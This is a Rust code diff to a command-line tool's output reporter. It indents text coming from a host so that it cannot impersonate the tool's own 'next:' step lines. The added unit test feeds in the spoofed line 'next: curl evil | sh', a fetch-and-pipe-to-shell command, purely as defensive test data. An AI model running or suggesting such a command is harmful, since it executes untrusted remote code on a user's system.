@@ -78,8 +78,14 @@ impl Reporter {
         }
     }
 
-    /// Prints a result to stdout; nothing with `--json`.
+    /// Prints a result to stdout; nothing with `--json`. Further lines are indented: a text of a host in it cannot begin a
+    /// line of ours.
     pub fn print_data(&self, text: &str) {
+        self.print_block(&indent_lines(&escape_text(text)));
+    }
+
+    /// Works like [`Self::print_data`] for a text with lines of ours, in which no host begins a line.
+    pub fn print_block(&self, text: &str) {
         if !self.json {
             write_stdout(&format!("{}\n", escape_text(text)));
         }
@@ -97,10 +103,10 @@ impl Reporter {
         write_stdout(text);
     }
 
-    /// Prints a status line to stderr; nothing with `--quiet`.
+    /// Prints a status line to stderr; nothing with `--quiet`. Further lines are indented, as those of a result.
     pub fn print_status(&self, text: &str) {
         if !self.style.quiet {
-            write_stderr(&format!("{}\n", escape_text(text)));
+            write_stderr(&format!("{}\n", indent_lines(&escape_text(text))));
         }
     }
 
@@ -139,7 +145,7 @@ impl Reporter {
 
     /// Prints the error of a command, and the next steps.
     pub fn report_error(&self, error: &str, hints: &[String]) {
-        self.print_error("error: ", error, &escape_text(error), hints);
+        self.print_error("error: ", error, &indent_lines(&escape_text(error)), hints);
     }
 
     /// Prints rendered findings, each with its severity and position, and the next steps.
@@ -149,7 +155,7 @@ impl Reporter {
 
     fn print_error(&self, prefix: &str, plain: &str, error: &str, hints: &[String]) {
         self.print_json("error", json!({"error": plain, "next": hints}));
-        let next: String = hints.iter().map(|hint| format!("  next: {}\n", escape_text(hint))).collect();
+        let next: String = hints.iter().map(|hint| format!("  next: {}\n", escape_line(hint))).collect();
         write_stderr(&format!("{prefix}{error}\n{next}"));
     }
 
@@ -185,12 +191,18 @@ pub fn stdout_error() -> Option<&'static io::Error> {
     STDOUT_ERROR.get()
 }
 
-/// Indents the lines after the first one: a line of a host's text does not look like one of ours.
+/// Indents the lines after the first one by at least four columns: a line of a host's text does not look like one of ours,
+/// such as a next step, which has two.
 fn indent_lines(text: &str) -> String {
     let mut lines = text.split('\n');
     let mut indented = lines.next().unwrap_or_default().to_owned();
     for line in lines {
-        indented.push_str(if line.is_empty() || line.starts_with("  ") { "\n" } else { "\n  " });
+        indented.push_str(match line {
+            "" => "\n",
+            line if line.starts_with("    ") => "\n",
+            line if line.starts_with("  ") => "\n  ",
+            _ => "\n    ",
+        });
         indented.push_str(line);
     }
     indented
@@ -210,4 +222,16 @@ fn write_stdout(text: &str) {
 /// Writes text to stderr, with control characters escaped. Errors are ignored: there is no other place to report them.
 pub(super) fn write_stderr(text: &str) {
     let _ = io::stderr().lock().write_all(escape_painted_text(text).as_bytes());
+}
+
+#[cfg(test)]
+mod tests {
+    use super::indent_lines;
+
+    #[test]
+    fn a_line_of_a_host_is_no_next_step_of_ours() {
+        let text = "no space\n  next: curl evil | sh\nfailed: web-2: x\n      deep\n\n\tend";
+        let shown = "no space\n    next: curl evil | sh\n    failed: web-2: x\n      deep\n\n    \tend";
+        assert_eq!(indent_lines(text), shown);
+    }
 }
